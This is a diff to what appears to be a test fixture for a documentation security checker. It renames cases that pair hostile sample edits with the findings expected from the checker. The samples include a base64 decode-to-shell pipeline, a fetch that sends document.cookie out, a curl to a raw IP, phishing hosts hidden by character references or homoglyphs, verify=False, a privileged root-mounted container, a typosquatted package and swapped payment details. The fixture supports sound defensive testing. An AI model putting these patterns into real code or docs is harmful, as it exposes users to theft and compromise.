@@ -81,7 +81,7 @@ export const publishedAttacks: Readonly<Record<string, PublishedAttack>> = {
       /external host `acme\.evil\.io`/,
     ],
   },
-  'change the privacy policy and a page that nobody asked about': {
+  'change the privacy policy and a page that the request doesn’t mention': {
     files: {
       'legal/privacy.mdx': '---\ntitle: Privacy policy\n---\n\nWe may sell your data.\n',
       'sdk/python.mdx': '---\ntitle: Python SDK\n---\n\nThe SDK sends your code to us.\n',
@@ -97,7 +97,7 @@ export const publishedAttacks: Readonly<Record<string, PublishedAttack>> = {
     files: page('<Card title="Sign in" href="https://acme-login.io">Sign in</Card>'),
     named: [/external host `acme-login\.io`/],
   },
-  'hide a host behind character references': {
+  'write a host with character references': {
     files: page('<Login page="&#104;ttps:&#x2f;/evil.io/login" />'),
     named: [/external host `evil\.io`/],
   },
@@ -105,7 +105,7 @@ export const publishedAttacks: Readonly<Record<string, PublishedAttack>> = {
     files: page('[Sign in](https://аpp.acme.dev)'),
     named: [/external host `xn--/],
   },
-  'name an address by its number': {
+  'write an address as a number': {
     files: code('curl http://93.184.216.34/x -o x'),
     named: [/external host `93\.184\.216\.34`/],
   },
@@ -125,7 +125,7 @@ export const publishedAttacks: Readonly<Record<string, PublishedAttack>> = {
     files: page('export const beat = () => fetch(`/api?c=${document.cookie}`);'),
     named: [/program text that reaches the browser/],
   },
-  'decode what it runs': {
+  'run decoded text': {
     files: code('echo Y3VybCBldmlsLmlv | base64 -d | sh'),
     named: [/runs what it downloads or decodes: `echo Y3VybCBldmlsLmlv \| base64 -d \| sh`/],
   },
@@ -135,11 +135,11 @@ export const publishedAttacks: Readonly<Record<string, PublishedAttack>> = {
     ),
     named: [/`bash <\(curl/, /`python -c/],
   },
-  'switch off the check of certificates': {
+  'turn off certificate checks': {
     files: code('requests.get("https://app.acme.dev/v1", verify=False)', 'python'),
     named: [/turns off a protection: `verify=False`/],
   },
-  'give a container everything': {
+  'give a container all privileges': {
     files: code('docker run --privileged -v /:/host acme/server\nchmod -R 777 /srv'),
     named: [/`--privileged`/, /`chmod -R 777`/],
   },
@@ -169,11 +169,11 @@ export const publishedAttacks: Readonly<Record<string, PublishedAttack>> = {
     files: page('Run `pip install Lmnr-sdk` first.'),
     named: [/package `lmnr-sdk`/],
   },
-  'start a program that no page names': {
+  'start a program that no page mentions': {
     files: code('acme-helper --key $ACME_API_KEY'),
     named: [/has the command `acme-helper`/],
   },
-  'take mail, calls and payments': {
+  'redirect mail, calls and payments': {
     files: {
       'contact.mdx':
         '---\ntitle: Contact\n---\n\nMail help@acme-support.io or call +1 415 200 7987. Pay to 0x52908400098527886E0F7030069857D2E4169EE7 or DE89 3704 0044 0532 0130 00.\n',
@@ -190,7 +190,7 @@ export const publishedAttacks: Readonly<Record<string, PublishedAttack>> = {
     files: page('The signing key has the fingerprint `0123 4567 89AB CDEF 0123 4567 89AB CDEF 0123 4567`.'),
     named: [/a key, fingerprint or checksum/],
   },
-  'drop a warning': {
+  'remove a warning': {
     files: {
       'install.mdx': (publishedSite['install.mdx'] ?? '').replace(
         'Never share your API key with anyone.\n',
